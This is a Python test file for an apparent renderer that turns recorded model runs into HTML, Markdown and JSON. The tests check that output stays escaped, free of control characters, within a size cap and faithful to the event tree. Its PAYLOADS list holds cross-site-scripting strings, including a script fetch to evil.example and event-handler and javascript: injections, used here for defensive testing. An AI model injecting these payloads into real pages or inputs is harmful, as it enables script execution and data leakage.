"""The saved record: inert, escaped, within its size, the same tree."""

from __future__ import annotations

import json
import re
import time
from dataclasses import asdict
from html.parser import HTMLParser
from typing import Any

import pytest

from rlm_magic.engine.events import Event
from rlm_magic.engine.tree import Tree
from rlm_magic.view import document, page, record
from rlm_magic.view.html import TAGS, style
from rlm_magic.view.markdown import fenced, passive
from rlm_magic.view.record import CAP, MIME
from tests.vectors.generate import VECTORS, Script

from .sample import CODE, run

PAYLOADS = [
    "<script>fetch('http://evil.example')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "\"'><details open ontoggle=alert(1)>",
    "</pre></code></details></style><style>*{display:none}</style><b id=a onclick=x>",
    "</title><script>alert(1)</script>",
    "&lt;script&gt;&#60;script&#62;",
    "```\n</code><script>alert(1)</script>\n```",
    "\x1b[31m\x1b]8;;http://evil.example\x07\u202e<\x00script>\ud800",
    "![x](http://evil.example/?data) [y](javascript:alert(1)) <http://evil.example> $\\href{javascript:alert(1)}{x}$",
]
HOSTILE = " ".join(PAYLOADS)


class Shape(HTMLParser):
    """The tags, attributes and text of a page; an unbalanced one raises."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""
        self._open: list[str] = []
        self.feed(source)
        self.close()
        assert self._open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        if tag != "meta":
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")


@pytest.mark.parametrize("payload", [*PAYLOADS, HOSTILE])
def test_hostile_texts_stay_text_in_html(payload: str) -> None:
    shape = Shape(record(run(lambda said: f"{payload}{said}"))["text/html"])
    assert shape.tags <= set(TAGS)
    assert shape.attributes <= {"class", "open"}
    assert "alert(1)" not in payload or "alert(1)" in shape.text


def test_hostile_texts_stay_text_in_a_page() -> None:
    shape = Shape(page(run(lambda said: f"{HOSTILE}{said}"), HOSTILE))
    assert shape.tags <= {*TAGS, "html", "head", "body", "meta", "title"}
    assert shape.attributes <= {"class", "open", "charset", "name", "content", "http-equiv", "lang"}


CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def test_no_control_character_in_any_form() -> None:
    bundle = record(run(lambda said: f"{HOSTILE}\x1b[2J\x9b1m\u2066{said}", model="m\x1b[31m"))
    whole = json.dumps(bundle, ensure_ascii=False)
    assert "\\u00" not in whole
    assert not CONTROLS.search(whole)
    whole.encode()


def test_the_style_loads_nothing() -> None:
    assert not re.search(r"url|@import|<|https?:", style())


ACTIVE = r"(?<!\\)\]\(|(?<!\\)<|://|(?<!\\)\$|(?<!\\)!\["


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if "`" not in p])
def test_markdown_of_an_answer_cannot_load_or_link(payload: str) -> None:
    assert not re.search(ACTIVE, passive(payload))
    assert "www." not in passive("WWW.evil.example www.evil.example")
    assert "@" not in passive("mail@evil.example")


def test_markdown_keeps_the_form_of_an_answer() -> None:
    answer = "# Betrayals\n\n- **Brutus** betrays _Caesar_\n\n| who | whom |\n|---|---|\n| a | b |"
    assert passive(answer) == answer


def test_a_code_block_cannot_be_left() -> None:
    text = "a\n```\n<script>\n`````"
    assert fenced(text) == f"``````\n{text}\n``````"
    assert passive(text) == fenced(text)


def test_markdown_in_a_renderer() -> None:
    markdown_it = pytest.importorskip("markdown_it")
    rendered = markdown_it.MarkdownIt("js-default", {"html": True}).enable("table").render(document(run(str.upper)))
    assert "<h1>Question</h1>" in rendered
    hostile = run(lambda said: f"{HOSTILE}{said}")
    for source in (record(hostile)["text/markdown"], document(hostile)):
        rendered = markdown_it.MarkdownIt("js-default", {"html": True}).enable("table").render(source)
        assert not re.search(r"<(script|img|svg|a|iframe|style|details)\b", rendered)


def test_html_without_its_style_is_legible() -> None:
    source = record(run())["text/html"]
    text = Shape(re.sub(r"<style>.*?</style>", "", source, flags=re.DOTALL)).text
    assert text.startswith("Brutus betrays Caesar.answered · 1 turn · 8 calls (1 failed) · 1.9k→115 tokens · $1.12")
    assert "✓ T1 Split it, then ask. · 2.0k tokens · $1.12 · 8.1 s" in text
    assert "✕ L part 7 — EmptyReply: the model answered nothing error · 700 ms" in text
    assert "Output, the model saw 2,000 of 4,812 characters" in text
    assert CODE.strip() in text


def test_a_prompt_is_shown_once() -> None:
    assert record(run(calls=8))["text/html"].count("You are an assistant.") == 1


def test_nothing_differs_between_two_renderings() -> None:
    assert json.dumps(record(run())) == json.dumps(record(run()))
    assert not re.search(r"\bid=", record(run())["text/html"])


def folded(payload: dict[str, Any]) -> Tree:
    assert [e["seq"] for e in payload["events"]] == list(range(len(payload["events"])))
    times = [e["t"] for e in payload["events"]]
    assert times == sorted(times)
    return Tree(Event(e["seq"], e["t"], e["type"], e["node"], e["data"]) for e in payload["events"])


@pytest.mark.parametrize("name", [*sorted(VECTORS.keys() - {"unknown"}), "sample"])
def test_the_json_form_folds_to_the_same_tree(name: str) -> None:
    tree = run() if name == "sample" else Tree(VECTORS[name]())
    payload = record(tree, run="r1")[MIME]
    assert (payload["v"], payload["run"], payload["cut"]) == (1, "r1", None)
    again, expected = folded(payload), tree
    for node in expected.walk():
        twin, original = asdict(again.nodes[node.id]), asdict(node)
        assert twin.pop("sums") == pytest.approx(original.pop("sums"))
        assert without_previews(twin) == without_previews(original)
    assert again.bodies.items() <= expected.bodies.items()


def without_previews(value: Any) -> Any:
    """Previews are cut shorter; all else is the same."""
    if isinstance(value, dict):
        return {name: without_previews(each) for name, each in value.items() if name != "preview"}
    return [without_previews(each) for each in value] if isinstance(value, list) else value


def size(bundle: dict[str, Any]) -> int:
    return len(json.dumps(bundle, ensure_ascii=False).encode())


def test_ten_thousand_nodes_fit_and_are_fast() -> None:
    tree = run(calls=10_000)
    started = time.perf_counter()
    bundle = record(tree)
    assert time.perf_counter() - started < 30  # seconds, on any machine
    assert size(bundle) <= CAP
    cut = bundle[MIME]["cut"]
    kept = folded(bundle[MIME])
    assert cut["nodes"] == len(tree.nodes) - len(kept.nodes) > 0
    assert kept.nodes["0"].sums.calls + cut["sums"]["calls"] == tree.nodes["0"].sums.calls
    assert "0.1.1.1.7" in kept.nodes
    assert re.search(r"… [\d,]+ more, not embedded", bundle["text/html"])
    Shape(bundle["text/html"])


def test_what_a_cell_displayed_is_embedded_whole_or_counted_as_left_out() -> None:
    add = Script()
    add.opened(0, "0", "run", label="a plot")
    add.opened(0, "0.1", "turn", label="turn 1", number=1)
    add.opened(0, "0.1.1", "exec", label="plt.plot(y)")
    small, large = "iVBO" * 50_000, "iVBO" * 500_000
    rich = [
        {"image/png": add.text("0.1.1", image), "text/plain": add.text("0.1.1", "<Figure>")} for image in (small, large)
    ]
    add(0, "close", "0.1.1", status="ok", rich=rich)
    payload = record(Tree(add.events))[MIME]
    embedded = folded(payload).bodies
    assert [embedded.get(output["image/png"]["sha256"]) for output in rich] == [small, None]
    assert embedded[rich[0]["text/plain"]["sha256"]] == "<Figure>"
    assert payload["cut"]["bodies"] == 1


@pytest.mark.parametrize("cap", [500_000, 1_000_000, CAP])
def test_large_texts_are_cut_and_said(cap: int) -> None:
    bundle = record(run(lambda said: said + "\n\"'<&>\\" * 50_000), cap=cap)
    assert size(bundle) <= cap
    assert folded(bundle[MIME]).nodes.keys() >= {"0", "0.1"}
    assert "not embedded" in bundle["text/html"]
    assert bundle[MIME]["cut"] or "not embedded" in json.dumps(bundle[MIME])


def test_a_run_that_never_ended() -> None:
    tree = run(end=False)
    assert "interrupted" in record(tree)["text/plain"]
    assert "running" in record(tree, alive=True)["text/plain"]
    assert "no events are recorded" in record(Tree())["text/html"]
    assert "<details open>" in record(tree)["text/html"]


def test_deep_nesting() -> None:
    add = VECTORS["nested"]()[:1]
    node = "0"
    for i in range(1, 199):
        add.append(Event(i, 0.0, "open", f"{node}.1", {"kind": "rlm", "parent": node, "depth": i}))
        node = f"{node}.1"
    Shape(record(Tree(add))["text/html"])
